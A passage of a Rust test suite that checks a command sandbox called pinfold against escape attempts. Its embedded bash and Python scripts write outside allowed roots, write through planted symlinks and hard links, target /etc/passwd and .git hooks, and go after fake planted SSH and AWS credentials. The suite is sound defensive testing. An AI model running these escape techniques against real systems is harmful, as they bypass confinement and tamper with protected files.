//! Adversarial, black-box tests of `pinfold exec` (issue 3, `/work/shared/ESCAPES.md`).
//!
//! Every attack runs three times over:
//!
//! 1. a **control**: the same attack without pinfold, in a fresh fixture. It must work on this
//!    host; if it does not, the test fails ("CONTROL FAILED"), because a sandbox test whose attack
//!    cannot succeed anyway proves nothing;
//! 2. the attack inside `pinfold exec`, in another fresh fixture;
//! 3. a look at the **host** afterwards: files absent or unchanged, processes gone, listeners
//!    that received nothing.
//!
//! "Refused" means the attempt failed (non-zero exit, EPERM/EACCES/EROFS/EXDEV/EBUSY…) **and**
//! the host did not change. Attack scripts print `ESCAPED: <what>` for every attempt that
//! succeeded and `refused: <what>: <error>` otherwise; the host check is independent of them.
//! A run only counts if the command really started inside the sandbox (the script prints
//! [`STARTED`] first): pinfold refusing to start (125) or judging the command away (126) does
//! not pass an attack test, except where the spec allows "refuses to start with a clear error".
//!
//! Each case runs as root and as uid 65534 (through `setpriv`), each in its own world-traversable
//! directory under `/tmp/pinfold-tests-*` with its own project, HOME, XDG dirs and
//! `PINFOLD_CACHE_DIR`. The suite must run as root and on x86_64 (raw syscall numbers); nothing
//! is skipped: a missing tool or kernel feature fails the test with a message saying so.
//!
//! The map from each ESCAPES.md item and each Proof item of issue 3 to these tests lives in
//! `docs/design/escape-tests.md`.

use std::collections::BTreeMap;
use std::fs;
use std::io::{Read, Write};
use std::net::{TcpListener, UdpSocket};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::fs::{MetadataExt, PermissionsExt, symlink};
use std::os::unix::net::{SocketAddr, UnixListener};
use std::os::unix::process::ExitStatusExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex, mpsc};
use std::thread;
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

/// The binary under test. `PINFOLD_TEST_EXEC_BIN` swaps in another (e.g. a fake that runs
/// commands unconfined, to check that every attack test can fail).
fn pinfold_bin() -> String {
    if let Ok(b) = std::env::var("PINFOLD_TEST_EXEC_BIN") {
        return b;
    }
    static BIN: std::sync::OnceLock<String> = std::sync::OnceLock::new();
    BIN.get_or_init(|| {
        let built = PathBuf::from(env!("CARGO_BIN_EXE_pinfold"));
        // uid 65534 must be able to run it (and pinfold re-executes itself): a checkout in a
        // directory closed to others (`mktemp -d` makes 0700 ones) gets a copy in a
        // world-traversable place, one per test process.
        let reachable = built.ancestors().skip(1).all(|d| {
            use std::os::unix::fs::PermissionsExt;
            fs::metadata(d).is_ok_and(|m| m.permissions().mode() & 0o001 != 0)
        });
        if reachable {
            return built.display().to_string();
        }
        let dir = std::env::temp_dir().join(format!("pinfold-test-bin-{}", std::process::id()));
        fs::create_dir_all(&dir).expect("create the binary copy's directory");
        let copy = dir.join("pinfold");
        fs::copy(&built, &copy).expect("copy the pinfold binary");
        {
            use std::os::unix::fs::PermissionsExt;
            fs::set_permissions(&dir, fs::Permissions::from_mode(0o755)).expect("chmod");
            fs::set_permissions(&copy, fs::Permissions::from_mode(0o755)).expect("chmod");
        }
        copy.display().to_string()
    })
    .clone()
}
/// The system Python (ctypes for raw syscalls); not a pyenv shim, which uid 65534 cannot use.
const PY: &str = "/usr/bin/python3";
/// First line of every attack script's output: the command really started.
const STARTED: &str = "PINFOLD-TEST-STARTED";
const NOBODY: u32 = 65534;
const TIMEOUT: Duration = Duration::from_secs(30);

// ---------------------------------------------------------------------------------------------
// Users and test generation
// ---------------------------------------------------------------------------------------------

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum User {
    Root,
    Nobody,
}

impl User {
    fn name(self) -> &'static str {
        match self {
            User::Root => "root",
            User::Nobody => "uid 65534",
        }
    }
}

/// One `#[test]` per user for each listed case: `mod case { fn root(); fn nobody(); }`.
macro_rules! both_users {
    ($($case:ident),* $(,)?) => {$(
        mod $case {
            #[test]
            fn root() {
                super::$case(super::User::Root)
            }
            #[test]
            fn nobody() {
                super::$case(super::User::Nobody)
            }
        }
    )*};
}

/// Cases whose control can only work for one user on a normal host; the reason is at each case
/// and in `docs/design/escape-tests.md`.
macro_rules! only_user {
    ($user:ident: $($case:ident),* $(,)?) => {$(
        mod $case {
            #[test]
            fn $user() {
                let u = match stringify!($user) {
                    "root" => super::User::Root,
                    _ => super::User::Nobody,
                };
                super::$case(u)
            }
        }
    )*};
}

// ---------------------------------------------------------------------------------------------
// Running processes
// ---------------------------------------------------------------------------------------------

/// The outcome of one process run.
#[derive(Debug)]
struct Run {
    what: String,
    code: Option<i32>,
    signal: Option<i32>,
    stdout: String,
    stderr: String,
    timed_out: bool,
}

impl Run {
    fn all(&self) -> String {
        format!("{}\n{}", self.stdout, self.stderr)
    }
    fn show(&self) -> String {
        format!(
            "  command: {}\n  exit: {:?} signal: {:?}{}\n  --- stdout ---\n{}\n  --- stderr ---\n{}",
            self.what,
            self.code,
            self.signal,
            if self.timed_out {
                " (TIMED OUT, killed)"
            } else {
                ""
            },
            indent(&self.stdout),
            indent(&self.stderr)
        )
    }
    fn escaped(&self) -> Vec<&str> {
        self.stdout
            .lines()
            .filter(|l| l.starts_with("ESCAPED"))
            .collect()
    }
    fn refused_lines(&self) -> Vec<&str> {
        self.stdout
            .lines()
            .filter(|l| l.starts_with("refused"))
            .collect()
    }
    fn started(&self) -> bool {
        self.stdout.contains(STARTED)
    }
}

fn indent(s: &str) -> String {
    let s = match s.char_indices().nth(6000) {
        Some((i, _)) => &s[..i],
        None => s,
    };
    s.lines()
        .map(|l| format!("    | {l}"))
        .collect::<Vec<_>>()
        .join("\n")
}

/// Spawn, feed `stdin`, collect output, kill after `timeout`. Readers are abandoned (not
/// waited for) if a leaked grandchild keeps a pipe open.
fn run_cmd(mut c: Command, what: String, stdin: Option<Vec<u8>>, timeout: Duration) -> Run {
    c.stdin(if stdin.is_some() {
        Stdio::piped()
    } else {
        Stdio::null()
    });
    c.stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut child = c
        .spawn()
        .unwrap_or_else(|e| panic!("cannot start `{what}`: {e}"));
    if let Some(data) = stdin {
        let mut s = child.stdin.take().expect("piped stdin");
        thread::spawn(move || {
            let _ = s.write_all(&data);
        });
    }
    let (tx, rx) = mpsc::channel();
    for (i, mut r) in [
        Box::new(child.stdout.take().expect("piped")) as Box<dyn Read + Send>,
        Box::new(child.stderr.take().expect("piped")),
    ]
    .into_iter()
    .enumerate()
    {
        let tx = tx.clone();
        thread::spawn(move || {
            let mut buf = Vec::new();
            let _ = r.read_to_end(&mut buf);
            let _ = tx.send((i, buf));
        });
    }
    let deadline = Instant::now() + timeout;
    let mut timed_out = false;
    let status = loop {
        match child.try_wait().expect("wait") {
            Some(s) => break s,
            None if Instant::now() > deadline => {
                timed_out = true;
                let _ = child.kill();
                break child.wait().expect("wait");
            }
            None => thread::sleep(Duration::from_millis(5)),
        }
    };
    let mut out = [Vec::new(), Vec::new()];
    for _ in 0..2 {
        match rx.recv_timeout(Duration::from_secs(2)) {
            Ok((i, b)) => out[i] = b,
            Err(_) => break,
        }
    }
    Run {
        what,
        code: status.code(),
        signal: status.signal(),
        stdout: String::from_utf8_lossy(&out[0]).into_owned(),
        stderr: String::from_utf8_lossy(&out[1]).into_owned(),
        timed_out,
    }
}

fn unique(tag: &str) -> String {
    static N: AtomicUsize = AtomicUsize::new(0);
    let nanos = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .expect("clock")
        .subsec_nanos();
    format!(
        "{tag}{}x{}x{nanos:x}",
        std::process::id(),
        N.fetch_add(1, Ordering::Relaxed)
    )
}

/// The suite needs root: it runs every case as root and as uid 65534 via `setpriv`.
fn require_root_x86_64() {
    let status = fs::read_to_string("/proc/self/status").expect("read /proc/self/status");
    let uid_line = status.lines().find(|l| l.starts_with("Uid:")).unwrap_or("");
    assert!(
        uid_line.split_whitespace().nth(2) == Some("0"),
        "this suite must run as root: it runs each case as root and as uid 65534 (via setpriv); \
         got {uid_line:?}"
    );
    assert!(
        std::env::consts::ARCH == "x86_64",
        "the raw syscall numbers in these tests are x86_64's; port them before running here"
    );
}

// ---------------------------------------------------------------------------------------------
// The fixture: one temp world per run
// ---------------------------------------------------------------------------------------------

/// A policy that allows every command, so the kernel layers (not the policy) face each attack.
const TEST_POLICY: &str = r#"# pinfold test policy: allow everything; the sandbox must hold.
[defaults]
action = "allow"
sandbox = "workspace"

[sandbox.workspace]
fs.write.allow = ["."]
fs.write.deny = [".git/hooks", ".git/config", "pinfold.toml", ".env", "denied-dir", "keys/*.pem", "~/.bashrc"]
fs.read.deny = ["~/.ssh", "~/.aws", "secret.txt"]
network.allow = false
"#;

/// The embedded default policy (its `workspace` preset, its rules) with `allow` for commands
/// no rule matches, installed as the *global* config: the real default sandbox, no asking.
const DEFAULT_PRESET_ALLOW: &str = r#"extends = ["pinfold:default"]
[defaults]
action = "allow"
"#;

/// Bash prelude of every attack script: the start marker and `t DESC 'shell text'`.
const SH_PRELUDE: &str = r#"echo PINFOLD-TEST-STARTED
t() { local d=$1 err; shift; if err=$(bash -c "$1" 2>&1 </dev/null); then echo "ESCAPED: $d"; else echo "refused: $d: $err"; fi; }
"#;

/// Python prelude: start marker, raw syscalls, helpers that classify errno.
const PY_PRELUDE: &str = r#"import ctypes, errno, os, sys, socket, struct, time
print("PINFOLD-TEST-STARTED", flush=True)
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def sc(nr, *args):
    a = [ctypes.c_long(x) if isinstance(x, int) else x for x in args]
    ctypes.set_errno(0)
    r = libc.syscall(ctypes.c_long(nr), *a)
    return r, (ctypes.get_errno() if r == -1 else 0)
def ename(e):
    return errno.errorcode.get(e, str(e)) if e else "OK"
DENIED = (errno.EPERM, errno.EACCES, errno.ENOSYS)
def verdict(desc, reached, detail):
    print(("ESCAPED: " if reached else "refused: ") + desc + ": " + detail, flush=True)
CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET = 0x20000, 0x10000000, 0x40000000
def probe_privileged(desc, call):
    """Run call() in a forked child that first tries to get its own user+mount+net namespace, so a
    call that reaches the kernel cannot touch the host's mounts. Reached = errno not in
    EPERM/EACCES/ENOSYS: the syscall got past the permission checks."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        u, ue = sc(272, CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWNET)
        try:
            ret, e = call()
        except Exception as x:
            ret, e = -1, errno.EPERM
            print("exception", x, flush=True)
        os.write(w, f"{ret} {e} {ue}".encode())
        os._exit(0)
    os.close(w)
    data = os.read(r, 200).decode()
    os.waitpid(pid, 0)
    ret, e, ue = map(int, data.split())
    verdict(desc, e not in DENIED, f"ret={ret} errno={ename(e)} (unshare first: {ename(ue)})")
"#;

struct Fx {
    user: User,
    name: String,
    _tmp: tempfile::TempDir,
    base: PathBuf,
    home: PathBuf,
    proj: PathBuf,
    out: PathBuf,
    xdg_config: PathBuf,
    run_dir: PathBuf,
    /// Where pinfold runs (the project unless a case says otherwise).
    cwd: PathBuf,
    /// `-c FILE` for `pinfold exec`; `None` loads the global/project files (or the default).
    config: Option<PathBuf>,
    env: BTreeMap<String, String>,
    /// A secret's content, in `~/.ssh/id_rsa`, `~/.aws/credentials` and `secret.txt`.
    token: String,
    /// Host paths the control may create outside the fixture (removed on drop).
    cleanup: Mutex<Vec<PathBuf>>,
    /// Processes the case spawned on the host (killed on drop).
    pids: Mutex<Vec<Child>>,
}

impl Drop for Fx {
    fn drop(&mut self) {
        for p in self.cleanup.lock().expect("lock").iter() {
            let _ = fs::remove_file(p);
        }
        for c in self.pids.lock().expect("lock").iter_mut() {
            let _ = c.kill();
            let _ = c.wait();
        }
    }
}

impl Fx {
    /// A fresh world: project (a git repo with a commit, an existing hook, `secret.txt`,
    /// `keys/server.pem`, the test policy as `pinfold.toml`), HOME (`.ssh/id_rsa`,
    /// `.aws/credentials`, `.bashrc`), an outside dir, XDG dirs, all owned by the user.
    fn new(user: User, name: &str) -> Fx {
        require_root_x86_64();
        let tmp = tempfile::Builder::new()
            .prefix("pinfold-tests-")
            .tempdir_in("/tmp")
            .expect("create a temp dir under /tmp");
        let base = tmp.path().to_path_buf();
        fs::set_permissions(&base, fs::Permissions::from_mode(0o755)).expect("chmod base");
        let d = |p: &str| {
            let p = base.join(p);
            fs::create_dir_all(&p).expect("mkdir");
            p
        };
        let (home, proj, out) = (d("home"), d("proj"), d("outside"));
        let (xdg_config, xdg_cache, xdg_data) = (d("xdg/config"), d("xdg/cache"), d("xdg/data"));
        let (pcache, run_dir, tmpd) = (d("pinfold-cache"), d("run"), d("tmp"));
        fs::set_permissions(&run_dir, fs::Permissions::from_mode(0o700)).expect("chmod run");
        let token = unique("SECRET-TOKEN-");
        let mut env = BTreeMap::new();
        for (k, v) in [
            ("PATH", "/usr/local/bin:/usr/bin:/bin".to_string()),
            ("HOME", home.display().to_string()),
            (
                "USER",
                if user == User::Root { "root" } else { "nobody" }.to_string(),
            ),
            (
                "LOGNAME",
                if user == User::Root { "root" } else { "nobody" }.to_string(),
            ),
            ("LANG", "C.UTF-8".to_string()),
            ("XDG_CONFIG_HOME", xdg_config.display().to_string()),
            ("XDG_CACHE_HOME", xdg_cache.display().to_string()),
            ("XDG_DATA_HOME", xdg_data.display().to_string()),
            ("XDG_RUNTIME_DIR", run_dir.display().to_string()),
            ("PINFOLD_CACHE_DIR", pcache.display().to_string()),
            ("TMPDIR", tmpd.display().to_string()),
        ] {
            env.insert(k.to_string(), v);
        }
        let fx = Fx {
            user,
            name: name.to_string(),
            _tmp: tmp,
            base,
            home: home.clone(),
            proj: proj.clone(),
            out,
            xdg_config,
            run_dir,
            cwd: proj.clone(),
            config: Some(proj.join("pinfold.toml")),
            env,
            token,
            cleanup: Mutex::new(Vec::new()),
            pids: Mutex::new(Vec::new()),
        };
        // HOME: credentials and a shell rc file.
        fx.put(
            &home.join(".ssh/id_rsa"),
            &format!("-----BEGIN KEY-----\n{}\n", fx.token),
        );
        fx.put(
            &home.join(".aws/credentials"),
            &format!("aws_secret_access_key={}\n", fx.token),
        );
        fx.put(&home.join(".bashrc"), "# original bashrc\n");
        // The project: a repository with one commit and an existing hook.
        fx.init_repo(&proj);
        fx.put(&proj.join("pinfold.toml"), TEST_POLICY);
        fx.put(&proj.join("secret.txt"), &format!("{}\n", fx.token));
        fx.put(&proj.join("keys/server.pem"), "original pem\n");
        fx.put(&proj.join(".git/info/exclude"), ".t/\nsecret.txt\n");
        fx.own();
        fx
    }

    fn init_repo(&self, dir: &Path) {
        self.host_ok(&[
            "git",
            "init",
            "-q",
            "-b",
            "main",
            &dir.display().to_string(),
        ]);
        self.put(&dir.join("README"), "hello\n");
        self.put(&dir.join(".git/hooks/pre-push"), "#!/bin/sh\nexit 0\n");
        let d = dir.display().to_string();
        self.host_ok(&["git", "-C", &d, "add", "README"]);
        self.host_ok(&["git", "-C", &d, "commit", "-q", "-m", "initial"]);
    }

    /// Write a host file (parents created) and hand it to the case's user.
    fn put(&self, p: &Path, content: &str) {
        if let Some(parent) = p.parent() {
            fs::create_dir_all(parent).expect("mkdir");
        }
        fs::write(p, content).unwrap_or_else(|e| panic!("write {}: {e}", p.display()));
        if p.starts_with(self.home.join(".ssh")) {
            fs::set_permissions(p, fs::Permissions::from_mode(0o600)).expect("chmod");
        }
        if p.to_string_lossy().contains("/hooks/") {
            fs::set_permissions(p, fs::Permissions::from_mode(0o755)).expect("chmod");
        }
    }

    /// Give everything under the base to the case's user (symlinks themselves, never targets),
    /// except files named `suid-*`, which a case made root-owned setuid on purpose.
    fn own(&self) {
        if self.user == User::Nobody {
            let b = self.base.display().to_string();
            let o = format!("{NOBODY}:{NOBODY}");
            self.host_ok(&[
                "find", &b, "-name", "suid-*", "-prune", "-o", "-exec", "chown", "-h", &o, "{}",
                "+",
            ]);
        }
    }

    fn s(p: &Path) -> String {
        p.display().to_string()
    }

    /// A command run as the case's user with the fixture's environment, in `cwd`.
    fn cmd(&self, argv: &[String]) -> Command {
        let mut c = match self.user {
            User::Root => {
                let mut c = Command::new(&argv[0]);
                c.args(&argv[1..]);
                c
            }
            User::Nobody => {
                let mut c = Command::new("setpriv");
                c.args([
                    "--reuid=65534",
                    "--regid=65534",
                    "--clear-groups",
                    "--inh-caps=-all",
                    "--",
                ]);
                c.args(argv);
                c
            }
        };
        c.env_clear().envs(&self.env).current_dir(&self.cwd);
        c
    }

    fn label(&self) -> String {
        format!("[{}] {}", self.user.name(), self.name)
    }

    /// Run as root on the host (setup and inspection), failing loudly.
    fn host_ok(&self, argv: &[&str]) -> String {
        let mut c = Command::new(argv[0]);
        c.args(&argv[1..]).env_clear().envs(&self.env);
        c.envs([
            ("GIT_AUTHOR_NAME", "t"),
            ("GIT_AUTHOR_EMAIL", "t@example.invalid"),
            ("GIT_COMMITTER_NAME", "t"),
            ("GIT_COMMITTER_EMAIL", "t@example.invalid"),
            ("GIT_CONFIG_COUNT", "1"),
            ("GIT_CONFIG_KEY_0", "safe.directory"),
            ("GIT_CONFIG_VALUE_0", "*"),
        ]);
        let out = c
            .output()
            .unwrap_or_else(|e| panic!("{}: cannot run {argv:?}: {e}", self.label()));
        assert!(
            out.status.success(),
            "{}: host setup/inspection command {argv:?} failed: {}\n{}",
            self.label(),
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout).into_owned()
    }

    /// Write `.t/NAME.sh` (bash) in the working directory; returns the argv that runs it.
    fn sh_script(&self, name: &str, body: &str) -> Vec<String> {
        let p = self.cwd.join(".t").join(format!("{name}.sh"));
        self.put(&p, &format!("{SH_PRELUDE}{body}\n"));
        self.own();
        vec!["bash".into(), Self::s(&p)]
    }

    /// Write `.t/NAME.py` (with the prelude); returns the argv that runs it.
    fn py_script(&self, name: &str, body: &str) -> Vec<String> {
        let p = self.cwd.join(".t").join(format!("{name}.py"));
        self.put(&p, &format!("{PY_PRELUDE}{body}\n"));
        self.own();
        vec![PY.into(), Self::s(&p)]
    }

    /// The control: the argv run directly on the host as the case's user.
    fn control(&self, argv: &[String]) -> Run {
        run_cmd(self.cmd(argv), argv.join(" "), None, TIMEOUT)
    }

    /// `pinfold exec [-c CONFIG] OPTS… -- ARGV…` as the case's user.
    fn exec_argv(&self, opts: &[&str], argv: &[String]) -> Vec<String> {
        let mut v = vec![pinfold_bin(), "exec".into()];
        if let Some(c) = &self.config {
            v.push("-c".into());
            v.push(Self::s(c));
        }
        v.extend(opts.iter().map(|s| s.to_string()));
        v.push("--".into());
        v.extend(argv.iter().cloned());
        v
    }

    fn exec(&self, opts: &[&str], argv: &[String]) -> Run {
        self.exec_stdin(opts, argv, None)
    }

    fn exec_stdin(&self, opts: &[&str], argv: &[String], stdin: Option<&str>) -> Run {
        let full = self.exec_argv(opts, argv);
        let r = run_cmd(
            self.cmd(&full),
            full.join(" "),
            stdin.map(|s| s.as_bytes().to_vec()),
            TIMEOUT,
        );
        self.check_implemented(&r);
        r
    }

    fn check_implemented(&self, r: &Run) {
        if r.code == Some(2) && r.stderr.contains("unrecognized subcommand") {
            panic!(
                "{}: EXEC NOT IMPLEMENTED: `pinfold exec` is not a subcommand yet (the control \
                 passed; this is the sandbox step)\n{}",
                self.label(),
                r.show()
            );
        }
    }

    /// Use the embedded default policy (allow for unmatched commands) via the global config.
    fn use_default_preset(&mut self) {
        let p = self.xdg_config.join("pinfold/config.toml");
        self.put(&p, DEFAULT_PRESET_ALLOW);
        self.config = None;
        let _ = fs::remove_file(self.proj.join("pinfold.toml"));
        self.own();
    }

    fn spawn_host_sleeper(&self, argv0: &str) -> u32 {
        let mut c = self.cmd(&[
            "bash".into(),
            "-c".into(),
            format!("exec -a {argv0} sleep 300"),
        ]);
        c.stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null());
        let child = c.spawn().expect("spawn a host process");
        let pid = child.id();
        self.pids.lock().expect("lock").push(child);
        // Wait until the exec happened, so the pid carries argv0.
        let deadline = Instant::now() + Duration::from_secs(5);
        while Instant::now() < deadline {
            if fs::read(format!("/proc/{pid}/cmdline"))
                .is_ok_and(|c| c.starts_with(argv0.as_bytes()))
            {
                break;
            }
            thread::sleep(Duration::from_millis(5));
        }
        pid
    }

    fn host_pid_alive(&self, pid: u32) -> bool {
        let mut kids = self.pids.lock().expect("lock");
        match kids.iter_mut().find(|c| c.id() == pid) {
            Some(c) => matches!(c.try_wait(), Ok(None)),
            None => Path::new(&format!("/proc/{pid}")).exists(),
        }
    }

    // ---- assertions ---------------------------------------------------------------------

    /// The control must show the attack works on this host: every attempt escaped (no
    /// `refused:` line, at least one `ESCAPED:` line when the script prints them) and the host
    /// check saw the change.
    fn assert_control(&self, r: &Run, host_changes: &[String], scripted: bool) {
        let ok = !r.timed_out
            && r.started()
            && (!scripted || (r.refused_lines().is_empty() && !r.escaped().is_empty()))
            && !host_changes.is_empty();
        assert!(
            ok,
            "{}: CONTROL FAILED: the attack does not work on this host even without pinfold, so \
             the sandbox test would prove nothing.\n  host changes seen: {host_changes:?}\n{}",
            self.label(),
            r.show()
        );
    }

    /// The sandboxed run must have started the command, every attempt refused, the host
    /// unchanged.
    fn assert_refused(&self, r: &Run, host_changes: &[String]) {
        let mut why = Vec::new();
        if r.timed_out {
            why.push("pinfold exec timed out".to_string());
        }
        if !r.started() {
            why.push(format!(
                "the command never started inside the sandbox (exit {:?}); a sandbox that does \
                 not run the command passes no attack test",
                r.code
            ));
        }
        if matches!(r.code, Some(125 | 126)) {
            why.push(format!(
                "pinfold itself refused (exit {:?}) instead of running the attack",
                r.code
            ));
        }
        for e in r.escaped() {
            why.push(format!("attempt succeeded inside the sandbox: {e}"));
        }
        for c in host_changes {
            why.push(format!("HOST CHANGED: {c}"));
        }
        assert!(
            why.is_empty(),
            "{}: SANDBOX FAILED:\n  - {}\n{}",
            self.label(),
            why.join("\n  - "),
            r.show()
        );
    }
}

/// The host-side view of "what changed": `None` if the file is as it was.
fn changed_file(p: &Path, before: &Option<Vec<u8>>) -> Option<String> {
    let now = fs::read(p).ok();
    if &now != before {
        Some(format!(
            "{} changed: was {:?}, now {:?}",
            p.display(),
            before
                .as_ref()
                .map(|b| String::from_utf8_lossy(b).into_owned()),
            now.as_ref()
                .map(|b| String::from_utf8_lossy(b).into_owned())
        ))
    } else {
        None
    }
}

fn exists_change(p: &Path) -> Option<String> {
    fs::symlink_metadata(p)
        .ok()
        .map(|_| format!("{} exists", p.display()))
}

/// Snapshot of files whose content must not change.
struct Snap(Vec<(PathBuf, Option<Vec<u8>>)>);

impl Snap {
    fn of(paths: &[PathBuf]) -> Snap {
        Snap(
            paths
                .iter()
                .map(|p| (p.clone(), fs::read(p).ok()))
                .collect(),
        )
    }
    fn changes(&self) -> Vec<String> {
        self.0
            .iter()
            .filter_map(|(p, b)| changed_file(p, b))
            .collect()
    }
}

/// The common shape of a file-system attack: control in one fixture, attack in another.
/// `setup` prepares a fixture, `script` returns the argv to run, `changes` lists host changes.
fn attack_case(
    u: User,
    name: &str,
    setup: &dyn Fn(&mut Fx),
    script: &dyn Fn(&Fx) -> Vec<String>,
    changes: &dyn Fn(&Fx) -> Vec<String>,
) {
    let mut c = Fx::new(u, name);
    setup(&mut c);
    let argv = script(&c);
    let r = c.control(&argv);
    c.assert_control(&r, &changes(&c), true);

    let mut a = Fx::new(u, name);
    setup(&mut a);
    let argv = script(&a);
    let r = a.exec(&[], &argv);
    a.assert_refused(&r, &changes(&a));
}

// ---------------------------------------------------------------------------------------------
// 1-3. Writes outside the roots, through symlinks and hard links
// ---------------------------------------------------------------------------------------------

both_users!(
    write_outside_roots,
    reexec_helper_confines_too,
    write_through_planted_symlink,
    write_through_hardlink_to_own_outside_file,
);
only_user!(root: write_through_hardlink_to_etc_passwd);

/// ESCAPES 1: `echo x > /tmp/outside`, `$HOME/x`, `/var/tmp`, (root) `/etc`.
fn write_outside_roots(u: User) {
    let tag = unique("pinfold-escape-");
    let var_tmp = PathBuf::from(format!("/var/tmp/{tag}"));
    let etc = PathBuf::from(format!("/etc/{tag}"));
    let script = |fx: &Fx| {
        fx.cleanup
            .lock()
            .expect("lock")
            .extend([var_tmp.clone(), etc.clone()]);
        let mut body = format!(
            "t 'write a dir outside the roots' 'echo x > {o}/x'\n\
             t 'write $HOME/x' 'echo x > {h}/x'\n\
             t 'write /var/tmp' 'echo x > {v}'\n",
            o = Fx::s(&fx.out),
            h = Fx::s(&fx.home),
            v = Fx::s(&var_tmp)
        );
        if u == User::Root {
            body += &format!("t 'write /etc' 'echo x > {}'\n", Fx::s(&etc));
        }
        fx.sh_script("write_outside", &body)
    };
    let changes = |fx: &Fx| {
        [
            fx.out.join("x"),
            fx.home.join("x"),
            var_tmp.clone(),
            etc.clone(),
        ]
        .iter()
        .filter_map(|p| exists_change(p))
        .collect::<Vec<_>>()
    };
    // Each fixture run removes what its control created before the attack run looks.
    let c = Fx::new(u, "write_outside_roots");
    let r = c.control(&script(&c));
    let ch = changes(&c);
    c.assert_control(&r, &ch, true);
    for p in [&var_tmp, &etc] {
        let _ = fs::remove_file(p);
    }
    drop(c);
    let a = Fx::new(u, "write_outside_roots");
    let r = a.exec(&[], &script(&a));
    a.assert_refused(&r, &changes(&a));
}

/// ESCAPES 2: a symlink planted in the project (before start, and from inside) pointing to a
/// file outside; writing through it must not create or change the target.
fn write_through_planted_symlink(u: User) {
    attack_case(
        u,
        "write_through_planted_symlink",
        &|fx| {
            symlink(fx.out.join("pre-target"), fx.proj.join("pre-link")).expect("symlink");
            symlink(&fx.out, fx.proj.join("pre-dirlink")).expect("symlink");
            fx.own();
        },
        &|fx| {
            fx.sh_script(
                "symlink",
                &format!(
                    "t 'write through a link planted before start' 'echo x > pre-link'\n\
                     t 'write through a dir link planted before start' 'echo x > pre-dirlink/via-dir'\n\
                     t 'plant a link inside and write' 'ln -s {o}/in-target in-link && echo x > in-link'\n",
                    o = Fx::s(&fx.out)
                ),
            )
        },
        &|fx| {
            ["pre-target", "via-dir", "in-target"]
                .iter()
                .filter_map(|n| exists_change(&fx.out.join(n)))
                .collect()
        },
    );
}

/// ESCAPES 3: hard-link a file the user owns outside the roots into the project, write through.
fn write_through_hardlink_to_own_outside_file(u: User) {
    attack_case(
        u,
        "write_through_hardlink_to_own_outside_file",
        &|fx| {
            fx.put(&fx.out.join("mine.txt"), "original\n");
            fx.own();
        },
        &|fx| {
            fx.sh_script(
                "hardlink_own",
                &format!(
                    "t 'hard link an outside file and write' 'ln {o}/mine.txt h && echo x >> h'\n",
                    o = Fx::s(&fx.out)
                ),
            )
        },
        &|fx| {
            changed_file(&fx.out.join("mine.txt"), &Some(b"original\n".to_vec()))
                .into_iter()
                .collect()
        },
    );
}

/// ESCAPES 3, Proof "hard links to /etc/passwd". Root only: uid 65534 cannot hard-link
/// `/etc/passwd` on the host itself (`fs.protected_hardlinks = 1`), so its control could never
/// succeed; `write_through_hardlink_to_own_outside_file` covers the unprivileged case.
/// Never writes: opening the link for writing is the escape (the control must not damage
/// `/etc/passwd`).
fn write_through_hardlink_to_etc_passwd(u: User) {
    let before = fs::read("/etc/passwd").expect("read /etc/passwd");
    let ino = fs::metadata("/etc/passwd").expect("stat").ino();
    let script = |fx: &Fx| {
        fx.py_script(
            "hardlink_passwd",
            "try:\n    os.link('/etc/passwd', 'h')\n    fd = os.open('h', os.O_WRONLY | os.O_APPEND)\n    os.close(fd)\n    verdict('hard link /etc/passwd and open it for writing', True, 'opened')\nexcept OSError as e:\n    verdict('hard link /etc/passwd and open it for writing', False, ename(e.errno))\nfinally:\n    try: os.unlink('h')\n    except OSError: pass\n",
        )
    };
    let c = Fx::new(u, "write_through_hardlink_to_etc_passwd");
    let r = c.control(&script(&c));
    let ch = if r.escaped().is_empty() {
        vec![]
    } else {
        vec!["a writable hard link to /etc/passwd existed".to_string()]
    };
    c.assert_control(&r, &ch, true);

    let a = Fx::new(u, "write_through_hardlink_to_etc_passwd");
    let r = a.exec(&[], &script(&a));
    let mut ch = Vec::new();
    if fs::read("/etc/passwd").ok().as_ref() != Some(&before) {
        ch.push("/etc/passwd CHANGED".to_string());
    }
    if fs::metadata(a.proj.join("h")).is_ok_and(|m| m.ino() == ino) {
        ch.push("a hard link to /etc/passwd remains in the project".to_string());
        let _ = fs::remove_file(a.proj.join("h"));
    }
    a.assert_refused(&r, &ch);
}

// ---------------------------------------------------------------------------------------------
// 4-7. Protected paths inside writable roots
// ---------------------------------------------------------------------------------------------

both_users!(
    git_dir_replaced_by_symlink_before_start,
    git_config_write,
    git_hooks_existing_write,
    git_hooks_new_file,
    pinfold_config_write,
    pinfold_config_new_default_preset,
    pinfold_config_new_under_working_dir,
    planted_policy_file_in_a_subdirectory,
    rewritten_policy_file_in_a_subdirectory,
    placeholders_outlive_a_concurrent_run,
    audit_ledger_out_of_reach,
    shell_rc_files_default_preset,
    deny_path_created_after_start,
    deny_glob_write,
    git_dir_rename,
    git_dir_delete,
    git_init_refused,
    worktree_common_git_dir_protected,
    planted_git_file_names_no_writable_root,
    planted_commondir_names_no_writable_root,
);

fn git_protected(git: &Path) -> Snap {
    Snap::of(&[
        git.join("config"),
        git.join("hooks/pre-push"),
        git.join("hooks/pre-commit"),
    ])
}

/// ESCAPES 4: `.git -> decoy/` (inside the project) before the sandbox starts. Writing
/// `.git/hooks/*` or `.git/config` (through either name) must be refused, or pinfold must
/// refuse to start with a clear error (exit 125 and a message).
fn git_dir_replaced_by_symlink_before_start(u: User) {
    let setup = |fx: &mut Fx| {
        fs::rename(fx.proj.join(".git"), fx.proj.join("decoy")).expect("rename .git");
        symlink("decoy", fx.proj.join(".git")).expect("symlink .git");
        fx.own();
    };
    let script = |fx: &Fx| {
